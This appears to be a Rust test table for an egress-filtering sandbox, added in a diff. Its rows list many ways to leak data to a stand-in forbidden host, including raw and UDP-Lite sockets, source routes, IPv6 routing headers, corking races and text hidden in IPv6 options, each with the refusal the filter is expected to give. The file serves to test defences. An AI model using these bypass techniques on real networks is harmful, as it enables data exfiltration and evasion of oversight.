@@ -1,0 +1,609 @@
+//! The table of cases: every way out that this version closes, by the hook whose file is named alike.
+//!
+//! Longer than other files because it is a table. Addresses are those of [`crate::network::address`]; allowed is port
+//! 443 of 203.0.113.10 and 2001:db8:10::10, over TCP and UDP.
+
+use std::net::{IpAddr, Ipv4Addr};
+
+use egress_common::{Hook, Reason};
+
+use crate::{
+    cases::{Case, Proof, Told, allowed, case, denied},
+    network::address::{BAD_LINK, BAD4, BAD6, GATEWAY4, GOOD4},
+};
+
+const EPERM: i32 = libc::EPERM;
+const TO_BAD4: Proof = Proof::To(IpAddr::V4(BAD4));
+const TO_BAD6: Proof = Proof::To(IpAddr::V6(BAD6));
+const TO_LINK: Proof = Proof::To(IpAddr::V6(BAD_LINK));
+const CONNECT: &[Told] = &[denied(Hook::Connect, Reason::NoRule)];
+const SENDMSG: &[Told] = &[denied(Hook::Sendmsg, Reason::NoRule)];
+const PACKET: &[Told] = &[denied(Hook::Packet, Reason::NoRule)];
+const CREATE: &[Told] = &[denied(Hook::Create, Reason::SocketType)];
+const AT_CONNECT: (&str, i32) = ("connect", EPERM);
+const AT_SEND: (&str, i32) = ("send", EPERM);
+const AT_SENDTO: (&str, i32) = ("sendto", EPERM);
+const AT_SOCKET: (&str, i32) = ("socket", libc::EPROTONOSUPPORT);
+
+const STREAM4: &str = "socket inet stream";
+const STREAM6: &str = "socket inet6 stream";
+const DGRAM4: &str = "socket inet dgram";
+const DGRAM6: &str = "socket inet6 dgram";
+
+/// TCP, and the peers of datagram sockets.
+pub const CONNECT_ROWS: &[Case] = &[
+    case("TCP over IPv4", &[STREAM4, "connect 203.0.113.66:443"], TO_BAD4, AT_CONNECT, CONNECT),
+    case("TCP over IPv6", &[STREAM6, "connect [2001:db8:66::66]:443"], TO_BAD6, AT_CONNECT, CONNECT),
+    case(
+        "TCP to a mapped address",
+        &[STREAM6, "connect [::ffff:203.0.113.66]:443"],
+        TO_BAD4,
+        AT_CONNECT,
+        CONNECT,
+    ),
+    case(
+        "TCP to a link-local address",
+        &[STREAM6, "connect [fe80::66%2]:443"],
+        TO_LINK,
+        AT_CONNECT,
+        &[denied(Hook::Connect, Reason::LinkLocal)],
+    ),
+    case(
+        "TCP to another port of an allowed address",
+        &[STREAM4, "connect 203.0.113.10:444"],
+        Proof::To(IpAddr::V4(GOOD4)),
+        AT_CONNECT,
+        CONNECT,
+    ),
+    case(
+        "TCP to a peer after another one",
+        &[STREAM4, "connect 203.0.113.10:443", "disconnect", "connect 203.0.113.66:443"],
+        TO_BAD4,
+        AT_CONNECT,
+        &[allowed(Hook::Connect), denied(Hook::Connect, Reason::NoRule)],
+    ),
+    case(
+        "MSG_FASTOPEN over IPv4",
+        &[STREAM4, "fastopen 203.0.113.66:443 leak"],
+        TO_BAD4,
+        ("fastopen", EPERM),
+        CONNECT,
+    ),
+    case(
+        "MSG_FASTOPEN over IPv6",
+        &[STREAM6, "fastopen [2001:db8:66::66]:443 leak"],
+        TO_BAD6,
+        ("fastopen", EPERM),
+        CONNECT,
+    ),
+    case(
+        "MSG_FASTOPEN to a mapped address",
+        &[STREAM6, "fastopen [::ffff:203.0.113.66]:443 leak"],
+        TO_BAD4,
+        ("fastopen", EPERM),
+        CONNECT,
+    ),
+    case(
+        // TCP_FASTOPEN_CONNECT is 30.
+        "TCP_FASTOPEN_CONNECT",
+        &[STREAM4, "option 6 30 01000000", "connect 203.0.113.66:443", "send leak"],
+        TO_BAD4,
+        AT_CONNECT,
+        CONNECT,
+    ),
+    case(
+        "io_uring connect",
+        &[STREAM4, "ring-connect 203.0.113.66:443"],
+        TO_BAD4,
+        ("ring-connect", EPERM),
+        CONNECT,
+    ),
+    case(
+        "io_uring connect by a kernel thread",
+        &[STREAM4, "polled-connect 203.0.113.66:443"],
+        TO_BAD4,
+        ("polled-connect", EPERM),
+        CONNECT,
+    ),
+    case(
+        "TCP from a child of a child",
+        &[STREAM4, "bind 192.0.2.2:0", "connect 203.0.113.66:443"],
+        TO_BAD4,
+        AT_CONNECT,
+        CONNECT,
+    ),
+];
+
+/// Datagrams with an address of their own.
+pub const SENDMSG_ROWS: &[Case] = &[
+    case("UDP sendto over IPv4", &[DGRAM4, "sendto 203.0.113.66:443 leak"], TO_BAD4, AT_SENDTO, SENDMSG),
+    case("UDP sendto over IPv6", &[DGRAM6, "sendto [2001:db8:66::66]:443 leak"], TO_BAD6, AT_SENDTO, SENDMSG),
+    case(
+        "UDP sendto a mapped address",
+        &[DGRAM6, "sendto [::ffff:203.0.113.66]:443 leak"],
+        TO_BAD4,
+        AT_SENDTO,
+        SENDMSG,
+    ),
+    case(
+        "UDP sendto a link-local address",
+        &[DGRAM6, "sendto [fe80::66%2]:443 leak"],
+        TO_LINK,
+        AT_SENDTO,
+        &[denied(Hook::Sendmsg, Reason::LinkLocal)],
+    ),
+    case(
+        "UDP sendto with family AF_UNSPEC",
+        &[DGRAM4, "unspecto 203.0.113.66:443 leak"],
+        TO_BAD4,
+        ("unspecto", EPERM),
+        SENDMSG,
+    ),
+    case(
+        "UDP sendto an IPv4 address on an IPv6 socket",
+        &[DGRAM6, "sendto 203.0.113.66:443 leak"],
+        TO_BAD4,
+        AT_SENDTO,
+        SENDMSG,
+    ),
+    case(
+        // IP_PKTINFO with nothing chosen.
+        "UDP sendmsg with IP_PKTINFO",
+        &[DGRAM4, "cmsgto 203.0.113.66:443 0 8 000000000000000000000000 leak"],
+        TO_BAD4,
+        ("cmsgto", EPERM),
+        SENDMSG,
+    ),
+    case(
+        "UDP sendmsg with IPV6_PKTINFO",
+        &[DGRAM6, "cmsgto [2001:db8:66::66]:443 41 50 0000000000000000000000000000000000000000 leak"],
+        TO_BAD6,
+        ("cmsgto", EPERM),
+        SENDMSG,
+    ),
+    case(
+        "second message of sendmmsg",
+        &[DGRAM4, "sendmmsg 203.0.113.10:443 203.0.113.66:443 leak"],
+        TO_BAD4,
+        ("sendmmsg", EPERM),
+        &[allowed(Hook::Sendmsg), denied(Hook::Sendmsg, Reason::NoRule)],
+    ),
+    case(
+        "UDP sendto elsewhere than the peer, IPv4",
+        &[DGRAM4, "connect 203.0.113.10:443", "sendto 203.0.113.66:443 leak"],
+        TO_BAD4,
+        AT_SENDTO,
+        SENDMSG,
+    ),
+    case(
+        "UDP sendto elsewhere than the peer, IPv6",
+        &[DGRAM6, "connect [2001:db8:10::10]:443", "sendto [2001:db8:66::66]:443 leak"],
+        TO_BAD6,
+        AT_SENDTO,
+        SENDMSG,
+    ),
+    case(
+        "UDP sendto after the peer was dissolved",
+        &[DGRAM4, "connect 203.0.113.10:443", "disconnect", "sendto 203.0.113.66:443 leak"],
+        TO_BAD4,
+        AT_SENDTO,
+        SENDMSG,
+    ),
+    case(
+        "UDP datagram larger than the link",
+        &[DGRAM4, "bulkto 203.0.113.66:443 4000"],
+        TO_BAD4,
+        ("bulkto", EPERM),
+        SENDMSG,
+    ),
+    case(
+        "io_uring sendmsg",
+        &[DGRAM4, "ring-sendmsg 203.0.113.66:443 leak"],
+        TO_BAD4,
+        ("ring-sendmsg", EPERM),
+        SENDMSG,
+    ),
+    case(
+        "io_uring sendmsg by a kernel thread",
+        &[DGRAM4, "polled-sendmsg 203.0.113.66:443 leak"],
+        TO_BAD4,
+        ("polled-sendmsg", EPERM),
+        SENDMSG,
+    ),
+    case(
+        "UDP to the link's broadcast address",
+        &[DGRAM4, "option 1 6 01000000", "sendto 192.0.2.255:443 leak"],
+        Proof::To(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 255))),
+        AT_SENDTO,
+        SENDMSG,
+    ),
+    case(
+        "UDP to all",
+        &[DGRAM4, "option 1 6 01000000", "sendto 255.255.255.255:443 leak"],
+        Proof::To(IpAddr::V4(Ipv4Addr::BROADCAST)),
+        AT_SENDTO,
+        &[denied(Hook::Sendmsg, Reason::Broadcast)],
+    ),
+    case(
+        "UDP to a group, IPv4",
+        &[DGRAM4, "sendto 239.1.2.3:443 leak"],
+        Proof::Carries("leak"),
+        AT_SENDTO,
+        &[denied(Hook::Sendmsg, Reason::Multicast)],
+    ),
+    case(
+        "UDP to a group, IPv6",
+        &[DGRAM6, "sendto [ff02::1%2]:443 leak"],
+        Proof::Carries("leak"),
+        AT_SENDTO,
+        &[denied(Hook::Sendmsg, Reason::Multicast)],
+    ),
+    case(
+        "corked for an allowed address, then sent elsewhere",
+        &[
+            DGRAM4,
+            "moreto 203.0.113.66:443 leak",
+            "moreto 203.0.113.10:443 leak",
+            "sendto 203.0.113.10:443 leak",
+        ],
+        TO_BAD4,
+        ("moreto", EPERM),
+        SENDMSG,
+    ),
+];
+
+/// Sockets that are not made at all.
+pub const CREATE_ROWS: &[Case] = &[
+    case(
+        "UDP-Lite",
+        &["socket inet dgram 136", "connect 203.0.113.66:443", "send leak"],
+        TO_BAD4,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "UDP-Lite over IPv6",
+        &["socket inet6 dgram 136", "connect [2001:db8:66::66]:443", "send leak"],
+        TO_BAD6,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "UDP-Lite to a mapped address",
+        &["socket inet6 dgram 136", "connect [::ffff:203.0.113.66]:443", "send leak"],
+        TO_BAD4,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "ping socket",
+        &["socket inet dgram 1", "hexto 203.0.113.66:0 080000000000000061616161"],
+        TO_BAD4,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "ping socket over IPv6",
+        &["socket inet6 dgram 58", "hexto [2001:db8:66::66]:0 800000000000000061616161"],
+        Proof::Protocol(58, IpAddr::V6(BAD6)),
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "raw ICMP",
+        &["socket inet raw 1", "hexto 203.0.113.66:0 080000000000000061616161"],
+        TO_BAD4,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "raw ICMPv6",
+        &["socket inet6 raw 58", "hexto [2001:db8:66::66]:0 800000000000000061616161"],
+        Proof::Protocol(58, IpAddr::V6(BAD6)),
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "raw UDP",
+        &["socket inet raw 17", "hexto 203.0.113.66:0 01bb01bb000c000061616161"],
+        TO_BAD4,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "raw packet with a header of its own",
+        &[
+            "socket inet raw 255",
+            "hexto 203.0.113.10:0 4500001c0000000040110000c0000202cb00714201bb01bb00080000",
+        ],
+        TO_BAD4,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "raw fragment without ports",
+        &[
+            "socket inet raw 255",
+            "hexto 203.0.113.10:0 4500001c0001000140110000c0000202cb00714261616161616161",
+        ],
+        TO_BAD4,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case("MPTCP", &["socket inet stream 262", "connect 203.0.113.66:443"], TO_BAD4, AT_SOCKET, CREATE),
+    case(
+        "MPTCP over IPv6",
+        &["socket inet6 stream 262", "connect [2001:db8:66::66]:443"],
+        TO_BAD6,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "MPTCP to a mapped address",
+        &["socket inet6 stream 262", "connect [::ffff:203.0.113.66]:443"],
+        TO_BAD4,
+        AT_SOCKET,
+        CREATE,
+    ),
+    case(
+        "MPTCP with MSG_FASTOPEN",
+        &["socket inet stream 262", "fastopen 203.0.113.66:443 leak"],
+        TO_BAD4,
+        AT_SOCKET,
+        CREATE,
+    ),
+];
+
+const NOT_PLAIN: &[Told] = &[denied(Hook::Packet, Reason::NotPlain)];
+/// A TCP socket whose connect was allowed and whose packets are refused.
+const NOT_PLAIN_TCP: &[Told] = &[allowed(Hook::Connect), denied(Hook::Packet, Reason::NotPlain)];
+const NOT_PLAIN_SENT: &[Told] = &[allowed(Hook::Sendmsg), denied(Hook::Packet, Reason::NotPlain)];
+
+/// What only the packet shows.
+pub const PACKET_ROWS: &[Case] = &[
+    case(
+        "UDP connect and send, IPv4",
+        &[DGRAM4, "connect 203.0.113.66:443", "send leak"],
+        TO_BAD4,
+        AT_SEND,
+        PACKET,
+    ),
+    case(
+        "UDP connect and send, IPv6",
+        &[DGRAM6, "connect [2001:db8:66::66]:443", "send leak"],
+        TO_BAD6,
+        AT_SEND,
+        PACKET,
+    ),
+    case(
+        "UDP connect and send, mapped",
+        &[DGRAM6, "connect [::ffff:203.0.113.66]:443", "send leak"],
+        TO_BAD4,
+        AT_SEND,
+        PACKET,
+    ),
+    case(
+        "UDP connect and send, IPv4 address on an IPv6 socket",
+        &[DGRAM6, "connect 203.0.113.66:443", "send leak"],
+        TO_BAD4,
+        AT_SEND,
+        PACKET,
+    ),
+    case(
+        "UDP connect and send, link-local",
+        &[DGRAM6, "connect [fe80::66%2]:443", "send leak"],
+        TO_LINK,
+        AT_SEND,
+        &[denied(Hook::Packet, Reason::LinkLocal)],
+    ),
+    case(
+        "UDP connect to an allowed peer, then another",
+        &[DGRAM4, "connect 203.0.113.10:443", "connect 203.0.113.66:443", "send leak"],
+        TO_BAD4,
+        AT_SEND,
+        PACKET,
+    ),
+    case(
+        // IP_TOS
+        "connected UDP with a control message",
+        &[DGRAM4, "connect 203.0.113.66:443", "cmsg 0 1 04000000 leak"],
+        TO_BAD4,
+        ("cmsg", EPERM),
+        PACKET,
+    ),
+    case(
+        // UDP_CORK is 1. Over IPv6 what is corked for one peer goes to it even after a connect to another.
+        "corked for a forbidden peer, sent after a connect to an allowed one, IPv6",
+        &[
+            DGRAM6,
+            "connect [2001:db8:66::66]:443",
+            "option 17 1 01000000",
+            "send leak",
+            "connect [2001:db8:10::10]:443",
+            "option 17 1 00000000",
+        ],
+        TO_BAD6,
+        ("option", EPERM),
+        PACKET,
+    ),
+    case(
+        "MSG_MORE for a forbidden peer, sent after a connect to an allowed one, IPv6",
+        &[DGRAM6, "connect [2001:db8:66::66]:443", "more leak", "connect [2001:db8:10::10]:443", "send leak"],
+        TO_BAD6,
+        AT_SEND,
+        PACKET,
+    ),
+    case(
+        "the same after the allowed peer was approved before, IPv6",
+        &[
+            DGRAM6,
+            "connect [2001:db8:10::10]:443",
+            "connect [2001:db8:66::66]:443",
+            "more leak",
+            "connect [2001:db8:10::10]:443",
+            "send leak",
+        ],
+        TO_BAD6,
+        AT_SEND,
+        PACKET,
+    ),
+    case(
+        "the same after the allowed peer was sent to, IPv6",
+        &[
+            DGRAM6,
+            "connect [2001:db8:10::10]:443",
+            "send fine",
+            "disconnect",
+            "connect [2001:db8:66::66]:443",
+            "more leak",
+            "connect [2001:db8:10::10]:443",
+            "send leak",
+        ],
+        TO_BAD6,
+        AT_SEND,
+        // The first datagram to the allowed peer is told as an allowed attempt of the flow.
+        &[allowed(Hook::Packet), denied(Hook::Packet, Reason::NoRule)],
+    ),
+    case(
+        // Over IPv4 it goes to the newest peer.
+        "corked for an allowed peer, sent after a connect to a forbidden one, IPv4",
+        &[DGRAM4, "connect 203.0.113.10:443", "more leak", "connect 203.0.113.66:443", "send leak"],
+        TO_BAD4,
+        AT_SEND,
+        PACKET,
+    ),
+    case(
+        "corked by sendto an allowed address, sent after a connect to a forbidden one, IPv4",
+        &[DGRAM4, "moreto 203.0.113.10:443 leak", "connect 203.0.113.66:443", "send leak"],
+        TO_BAD4,
+        AT_SEND,
+        &[allowed(Hook::Sendmsg), denied(Hook::Packet, Reason::NoRule)],
+    ),
+    case(
+        // Loose source route by way of 203.0.113.66.
+        "UDP with a loose source route",
+        &[DGRAM4, "option 0 4 01830704cb007142", "sendto 203.0.113.10:443 leak"],
+        TO_BAD4,
+        AT_SENDTO,
+        NOT_PLAIN_SENT,
+    ),
+    case(
+        "connected UDP with a loose source route",
+        &[DGRAM4, "connect 203.0.113.10:443", "option 0 4 01830704cb007142", "send leak"],
+        TO_BAD4,
+        AT_SEND,
+        NOT_PLAIN,
+    ),
+    case(
+        // IP_RETOPTS is 7.
+        "UDP with a source route in a control message",
+        &[DGRAM4, "cmsgto 203.0.113.10:443 0 7 01830704cb007142 leak"],
+        TO_BAD4,
+        ("cmsgto", EPERM),
+        NOT_PLAIN_SENT,
+    ),
+    case(
+        // Strict source route by way of the gateway, which is on the link.
+        "UDP with a strict source route",
+        &[DGRAM4, "option 0 4 01890704c0000201", "sendto 203.0.113.10:443 leak"],
+        Proof::To(IpAddr::V4(GATEWAY4)),
+        AT_SENDTO,
+        NOT_PLAIN_SENT,
+    ),
+    Case {
+        repeats: true,
+        ..case(
+            "TCP with a loose source route",
+            &[STREAM4, "option 0 4 01830704cb007142", "connect 203.0.113.10:443"],
+            TO_BAD4,
+            ("connect", libc::EINPROGRESS),
+            NOT_PLAIN_TCP,
+        )
+    },
+    Case {
+        refusal: None,
+        repeats: true,
+        ..case(
+            "TCP with a source route set after the connect",
+            &[STREAM4, "connect 203.0.113.10:443", "option 0 4 01830704cb007142", "send leak", "sleep 20"],
+            Proof::Options(IpAddr::V4(GOOD4)),
+            AT_SEND,
+            NOT_PLAIN_TCP,
+        )
+    },
+    case(
+        // IPV6_RTHDR is 57; a segment routing header whose first segment is 2001:db8:66::66.
+        "UDP with a routing header",
+        &[
+            DGRAM6,
+            "option 41 57 000404010100000000000000000000000000000000000000\
+             20010db8006600000000000000000066",
+            "sendto [2001:db8:10::10]:443 leak",
+        ],
+        TO_BAD6,
+        AT_SENDTO,
+        NOT_PLAIN_SENT,
+    ),
+    case(
+        "connected UDP with a routing header",
+        &[
+            DGRAM6,
+            "connect [2001:db8:10::10]:443",
+            "option 41 57 000404010100000000000000000000000000000000000000\
+             20010db8006600000000000000000066",
+            "send leak",
+        ],
+        TO_BAD6,
+        AT_SEND,
+        NOT_PLAIN,
+    ),
+    Case {
+        repeats: true,
+        ..case(
+            "TCP with a routing header",
+            &[
+                STREAM6,
+                "option 41 57 000404010100000000000000000000000000000000000000\
+                 20010db8006600000000000000000066",
+                "connect [2001:db8:10::10]:443",
+            ],
+            TO_BAD6,
+            ("connect", libc::EINPROGRESS),
+            NOT_PLAIN_TCP,
+        )
+    },
+    Case {
+        refusal: None,
+        repeats: true,
+        ..case(
+            "TCP with a routing header set after the connect",
+            &[
+                STREAM6,
+                "connect [2001:db8:10::10]:443",
+                "option 41 57 000404010100000000000000000000000000000000000000\
+                 20010db8006600000000000000000066",
+                "send leak",
+                "sleep 20",
+            ],
+            TO_BAD6,
+            AT_SEND,
+            NOT_PLAIN_TCP,
+        )
+    },
+    case(
+        // IPV6_DSTOPTS is 59; a padding option that holds text.
+        "text in destination options to an allowed host",
+        &[DGRAM6, "option 41 59 00001e046c65616b", "sendto [2001:db8:10::10]:443 fine"],
+        Proof::Carries("leak"),
+        AT_SENDTO,
+        NOT_PLAIN_SENT,
+    ),
+    case(
+        // IPV6_HOPOPTS is 54.
+        "text in hop-by-hop options to an allowed host",
+        &[DGRAM6, "option 41 54 00001e046c65616b", "sendto [2001:db8:10::10]:443 fine"],
+        Proof::Carries("leak"),
+        AT_SENDTO,
+        NOT_PLAIN_SENT,
+    ),
+];
